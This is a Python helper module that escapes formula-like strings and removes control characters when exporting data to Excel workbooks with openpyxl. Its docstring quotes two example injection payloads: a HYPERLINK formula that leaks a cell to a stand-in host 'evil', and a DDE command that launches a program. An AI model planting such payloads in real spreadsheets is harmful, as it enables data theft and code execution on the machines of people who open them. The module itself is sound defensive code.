"""The one way exports write cells of a workbook, whatever a user typed into the data.

Two things a name, a unit code or a note may hold must not reach a workbook as they are:

- **A formula.** openpyxl stores any string starting with `=` as a formula, so a customer named
  `=HYPERLINK("http://evil/?"&B2,"点击")` or `=cmd|' /C calc'!A0` would be live in the export (formula
  or CSV injection). A string that starts like a formula in Excel or WPS (`=`, `+`, `-`, `@`, a tab or
  a carriage return) is written here as a **text cell with the quote prefix** (`t="inlineStr"` and the
  cell style's `quotePrefix="1"`): that is how Excel and WPS themselves store what a user typed after
  a `'`. They show the text exactly as it was typed, without a visible apostrophe, and keep it text
  when the cell is edited and confirmed again (which a plain text cell would turn into a formula). The
  value itself is not altered, so a re-import reads back the same name. (A CSV has no such marker; were
  one ever written, the usual `'` prefix would be the way, at the cost of changing the text.)
- **Characters a workbook cannot hold.** XML 1.0 forbids most control characters (`\\x01`, `\\x07`…);
  openpyxl raises on them, which made one such name a 500 for every caller. They are removed
  (openpyxl's own `ILLEGAL_CHARACTERS_RE`); they carry nothing a reader could see anyway.

Only strings are touched: numbers, money (`Decimal`), dates and times stay typed, so they sum and sort
in the workbook. Import this module where openpyxl is imported (lazily, inside the export function):
it imports openpyxl.
"""

from typing import Any

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""What makes Excel or WPS read a typed or imported string as a formula (or a DDE command)."""

_INVALID_TITLE = set("[]:*?/\\")


def clean(text: str) -> str:
    """`text` without the characters a workbook cannot hold."""
    return ILLEGAL_CHARACTERS_RE.sub("", text)


def looks_like_formula(text: str) -> bool:
    """Whether a spreadsheet would take `text` for a formula if it were typed in."""
    return text.startswith(FORMULA_STARTS)


def _fill(cell: Cell, value: Any) -> Cell:
    if isinstance(value, str):
        value = clean(value)
        cell.value = value
        if looks_like_formula(value):
            cell.data_type = "s"  # openpyxl made it "f" (a formula) for a leading "="
            cell.quotePrefix = True
    else:
        cell.value = value
    return cell


def put(sheet: Worksheet, row: int, column: int, value: Any) -> Cell:
    """Write `value` at (`row`, `column`) of a normal worksheet, safely (module docstring); returns the
    cell, for styling."""
    return _fill(sheet.cell(row=row, column=column), value)


def append(sheet: Worksheet | WriteOnlyWorksheet, values: list[Any]) -> None:
    """Append a row of `values` to a worksheet (write-only or normal), each written safely."""
    sheet.append([_fill(Cell(sheet, row=1, column=1), v) for v in values])  # both kinds take ready cells


def sheet_title(name: str, used: set[str]) -> str:
    """A sheet title from `name`: without what titles may not hold, at most 31 characters with room for
    a `-2` suffix, distinct from those in `used` (which it joins)."""
    base = "".join(ch for ch in clean(name) if ch not in _INVALID_TITLE)[:28].strip("'") or "Sheet"
    title, n = base, 2
    while title in used:
        title, n = f"{base}-{n}", n + 1
    used.add(title)
    return title
